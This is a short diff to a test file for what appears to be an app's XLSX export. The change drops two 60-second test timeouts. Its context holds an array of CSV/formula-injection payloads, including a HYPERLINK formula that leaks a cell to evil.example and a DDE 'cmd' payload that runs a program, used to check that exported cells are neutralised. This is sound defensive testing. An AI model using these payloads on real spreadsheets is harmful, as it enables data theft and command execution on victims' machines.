@@ -19,7 +19,7 @@ let organizer: string;
 beforeAll(async () => {
   ctx = await makeApp({ env: organizerEnv });
   organizer = await login(ctx.app, ORGANIZER.email, ORGANIZER.password);
-}, 60_000);
+});
 afterAll(() => ctx.close());
 
 const hostile = ['\u0008=HYPERLINK("https://evil.example/?leak="&A2,"Xem")', '\u001F+cmd|\' /C calc\'!A0', '\u000B-2+3', '\u0001@SUM(A1)'];
@@ -58,4 +58,4 @@ test('XLSX: user text that reads as a formula once the XML drops its control cha
   expect(texts).toHaveLength(1 + 2 * hostile.length);
   // What a spreadsheet sees in each cell: never text that starts like a formula.
   expect(texts.filter((text) => /^[=+\-@\t\r]/.test(text))).toEqual([]);
-}, 60_000);
+});
